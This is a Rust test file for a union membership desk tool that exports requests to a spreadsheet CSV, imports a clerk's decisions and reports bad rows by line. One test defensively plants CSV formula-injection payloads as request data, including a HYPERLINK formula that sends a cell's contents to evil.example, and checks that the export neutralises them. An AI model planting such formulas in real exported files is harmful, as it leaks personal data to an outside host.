//! The clerk's round trip: export the sheet, fill it in a spreadsheet, import it,
//! publish the statuses; bad rows named by their line, formulas never run, and the
//! needs_info loop through a worker's supplement.

use super::*;

#[test]
fn a_round_at_the_desk_export_fill_import_statuses() {
    let dir = temp_dir("round");
    let db = desk_with_requests(&dir);
    let pending = dir.join("pending.csv");
    let run = desk(&["export", "--out", pending.to_str().unwrap()], &db);
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let bytes = std::fs::read(&pending).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "UTF-8 with BOM, for WPS and Excel"
    );
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.trim_end().lines().collect();
    assert!(lines[0].ends_with("决定,会员号,备注"), "{}", lines[0]);
    assert_eq!(
        lines.len(),
        4,
        "join, transfer and card; the claim is not decided here:\n{text}"
    );
    assert!(text.contains("王五") && text.contains("原单位工会") && !text.contains(CLAIM));

    // Before any decision every request reads "received".
    let before = statuses(&db, &dir);
    assert_eq!(
        before.for_request(JOIN).unwrap().state,
        RequestState::Received
    );
    // The claim in this set names no campaign of the file: turned down, with the reason.
    let claim = before.for_request(CLAIM).unwrap();
    assert_eq!(claim.state, RequestState::Rejected);
    assert!(claim.note.is_some());

    // The clerk fills two rows (the member number typed full-width) and leaves one.
    let filled = fill(
        &text,
        &[
            (
                JOIN,
                "approved",
                "３７１５００２０２６０００７７７",
                "欢迎加入",
            ),
            (TRANSFER, "rejected", "", "原单位未办理转出"),
        ],
    );
    std::fs::write(&pending, &filled).unwrap();
    let run = desk(&["import", "--file", pending.to_str().unwrap()], &db);
    assert!(
        run.status.success(),
        "{}\n{filled}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(String::from_utf8_lossy(&run.stdout).contains("recorded 2 decision(s)"));

    let after = statuses(&db, &dir);
    let join = after.for_request(JOIN).unwrap();
    assert_eq!(join.state, RequestState::Approved);
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
    assert_eq!(join.note.as_deref(), Some("欢迎加入"));
    let transfer = after.for_request(TRANSFER).unwrap();
    assert_eq!(transfer.state, RequestState::Rejected);
    assert_eq!(transfer.member_no, None);
    assert_eq!(
        after.for_request(CARD).unwrap().state,
        RequestState::Received
    );
    assert!(
        !std::fs::read_to_string(dir.join("out/statuses.json"))
            .unwrap()
            .contains(JOIN),
        "refs, never ids"
    );

    // The same file again: decisions are recorded once.
    let again = desk(&["import", "--file", pending.to_str().unwrap()], &db);
    assert!(!again.status.success());
    let said = String::from_utf8_lossy(&again.stderr);
    assert!(said.contains("decided before"), "{said}");
    // The next export holds only what is still pending.
    let run = desk(&["export", "--out", pending.to_str().unwrap()], &db);
    assert!(String::from_utf8_lossy(&run.stdout).contains("1 request(s) awaiting"));
}

#[test]
fn a_file_with_bad_rows_names_each_line_and_records_nothing() {
    let dir = temp_dir("bad");
    let db = desk_with_requests(&dir);
    let file = dir.join("filled.csv");
    std::fs::write(
        &file,
        format!(
            "\u{feff}id,kind,decision,member_no,note\n\
             {JOIN},join,approved,3715002026000777,好\n\
             {TRANSFER},transfer,yes,,\n\
             {CARD},card,approved,,\n\
             {CLAIM},claim,approved,3715002026000123,\n\
             00000000-0000-4000-8000-0000000000ff,join,rejected,,\n\
             {JOIN},join,rejected,,\n"
        ),
    )
    .unwrap();
    let run = desk(&["import", "--file", file.to_str().unwrap()], &db);
    assert!(!run.status.success());
    let said = String::from_utf8_lossy(&run.stderr);
    let name = file.to_str().unwrap();
    for expected in [
        format!("{name}:3: 决定 `yes`"),
        format!("{name}:4: 通过需要会员号"),
        format!("{name}:5: `{CLAIM}` is a claim request"),
        format!("{name}:6: no request with id"),
        format!("{name}:7: `{JOIN}` appears twice"),
    ] {
        assert!(said.contains(&expected), "missing `{expected}` in:\n{said}");
    }
    assert!(said.contains("nothing was recorded"), "{said}");
    // Line 2 was good, but nothing is recorded when any row is wrong.
    assert_eq!(
        statuses(&db, &dir).for_request(JOIN).unwrap().state,
        RequestState::Received
    );
}

#[test]
fn an_exported_sheet_runs_no_formula_keeps_long_numbers_as_text_and_still_imports() {
    let dir = temp_dir("formula");
    let db = desk_with_requests(&dir);
    // A transfer whose every free-text field is a formula as a spreadsheet reads it.
    const EVIL: &str = "00000000-0000-4000-8000-0000000000e1";
    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&E3,"x")"#;
    let payload = serde_json::json!({
        "name": hyperlink,
        "phone": "13912345678",
        "id_number": "11010519491231002X",
        "occupation": "@SUM(1)",
        "employer": "+1+1",
        "union": "-2+3",
        // A tab or line break never gets this far (refused as a control character
        // when the request is opened); a full-width sign, as a Chinese input method
        // types it, does.
        "from_union": "＝1+1",
    })
    .to_string();
    let stored = store(
        &db,
        &[plain(EVIL, "transfer", CREATED, RECEIVED, &payload)],
        None,
    );
    assert_eq!(stored.new, 1);

    let pending = dir.join("pending.csv");
    succeeded(&desk(&["export", "--out", pending.to_str().unwrap()], &db));
    let text = String::from_utf8(std::fs::read(&pending).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let at = |name: &str| header.iter().position(|h| h == zh(name)).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = |id: &str| rows.iter().find(|r| &r[at("id")] == id).unwrap().clone();
    let evil = row(EVIL);
    for (column, expected) in [
        ("name", format!("'{hyperlink}")),
        ("occupation", "'@SUM(1)".into()),
        ("employer", "'+1+1".into()),
        ("union", "'-2+3".into()),
        ("from_union", "'＝1+1".into()),
        // Long numbers stay text (Excel would show 1.39123E+10 and lose digits).
        ("phone", "'13912345678".into()),
        ("id_number", "'11010519491231002X".into()),
    ] {
        assert_eq!(evil[at(column)], expected, "{column} in:\n{text}");
    }
    // No cell of the sheet starts with what a spreadsheet runs or turns into a number.
    for record in &rows {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "`{cell}` in:\n{text}"
            );
            assert!(
                !(cell.len() >= 11 && cell.bytes().all(|b| b.is_ascii_digit())),
                "`{cell}` in:\n{text}"
            );
        }
    }
    // The card's member number, filled in by the member, is kept as text too.
    assert_eq!(&row(CARD)[at("member_no")], "'3715002026000999");

    // The clerk decides; the spreadsheet kept the `'` of the card's member number and
    // of a note as typed. The import reads through them.
    let filled = fill(
        &text,
        &[
            (EVIL, "rejected", "", "'@SUM(1)"),
            (CARD, "'approved", "'3715002026000999", "'=欢迎"),
            (JOIN, "approved", "'3715002026000777", ""),
        ],
    );
    std::fs::write(&pending, &filled).unwrap();
    let run = desk(&["import", "--file", pending.to_str().unwrap()], &db);
    assert!(
        succeeded(&run).contains("recorded 3 decision(s)"),
        "{filled}"
    );
    let after = statuses(&db, &dir);
    let evil = after.for_request(EVIL).unwrap();
    assert_eq!(evil.state, RequestState::Rejected);
    assert_eq!(evil.note.as_deref(), Some("@SUM(1)"));
    let card = after.for_request(CARD).unwrap();
    assert_eq!(card.state, RequestState::Approved);
    assert_eq!(card.member_no.as_deref(), Some("3715002026000999"));
    assert_eq!(card.note.as_deref(), Some("=欢迎"));
    let join = after.for_request(JOIN).unwrap();
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
}

#[test]
fn an_error_after_a_cell_with_a_line_break_names_its_physical_line() {
    let dir = temp_dir("multiline");
    let db = desk_with_requests(&dir);
    let file = dir.join("filled.csv");
    // Row 2 holds a note over two lines (2 and 3); row 3 starts on line 4.
    std::fs::write(
        &file,
        format!(
            "\u{feff}id,kind,decision,member_no,note\n\
             {JOIN},join,approved,3715002026000777,\"欢迎\n加入\"\n\
             {TRANSFER},transfer,yes,,\n"
        ),
    )
    .unwrap();
    let run = desk(&["import", "--file", file.to_str().unwrap()], &db);
    assert!(!run.status.success());
    let said = String::from_utf8_lossy(&run.stderr);
    let name = file.to_str().unwrap();
    let expected = format!("{name}:4: 决定 `yes`");
    assert!(said.contains(&expected), "missing `{expected}` in:\n{said}");
    assert!(!said.contains(&format!("{name}:3:")), "{said}");
}

#[test]
fn the_sheet_is_in_chinese_and_a_needs_info_answered_by_a_supplement_comes_back_in_it() {
    let dir = temp_dir("chinese");
    let db = desk_with_requests(&dir);
    let unions = dir.join("unions.json");
    std::fs::write(
        &unions,
        r#"{"unions":[{"id":"371500-express","name":"聊城市快递行业工会联合会","region":"371500","kind":"industry"}]}"#,
    )
    .unwrap();
    let pending = dir.join("pending.csv");
    let export = || {
        succeeded(&desk(
            &[
                "export",
                "--out",
                pending.to_str().unwrap(),
                "--unions",
                unions.to_str().unwrap(),
            ],
            &db,
        ));
        String::from_utf8(std::fs::read(&pending).unwrap()).unwrap()
    };
    let text = export();
    // Beijing time (02:00:05Z is 10:00), kinds, occupations and unions in words.
    for words in [
        "2026-11-23 10:00",
        "入会",
        "转会",
        "会员证",
        "快递员",
        "聊城市快递行业工会联合会",
    ] {
        assert!(text.contains(words), "{words} in:\n{text}");
    }
    assert!(
        !text.contains("courier")
            && !text.contains("371500-express")
            && !text.contains("02:00:05Z")
    );
    let filled = fill(
        &text,
        &[
            (JOIN, "需补充材料", "", "请补充工作单位"),
            (TRANSFER, "不通过", "", "原单位未办理转出"),
            (CARD, "通过", "3715002026000999", ""),
        ],
    );
    std::fs::write(&pending, filled).unwrap();
    succeeded(&desk(&["import", "--file", pending.to_str().unwrap()], &db));
    assert_eq!(
        statuses(&db, &dir).for_request(JOIN).unwrap().state,
        RequestState::NeedsInfo
    );
    // The worker answers: the request is back in the sheet with the answer.
    let answer = format!(r#"{{"of":"{JOIN}","note":"单位：某某快递"}}"#);
    store(
        &db,
        &[plain(
            "00000000-0000-4000-8000-0000000000e9",
            "supplement",
            CREATED,
            "2099-01-01T00:00:00Z",
            &answer,
        )],
        None,
    );
    let again = export();
    assert_eq!(again.trim_end().lines().count(), 2, "{again}");
    assert!(again.contains("单位：某某快递") && again.contains(JOIN));
    std::fs::write(
        &pending,
        fill(&again, &[(JOIN, "通过", "3715002026000777", "")]),
    )
    .unwrap();
    succeeded(&desk(&["import", "--file", pending.to_str().unwrap()], &db));
    let join = statuses(&db, &dir).for_request(JOIN).unwrap().clone();
    assert_eq!(join.state, RequestState::Approved);
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
}
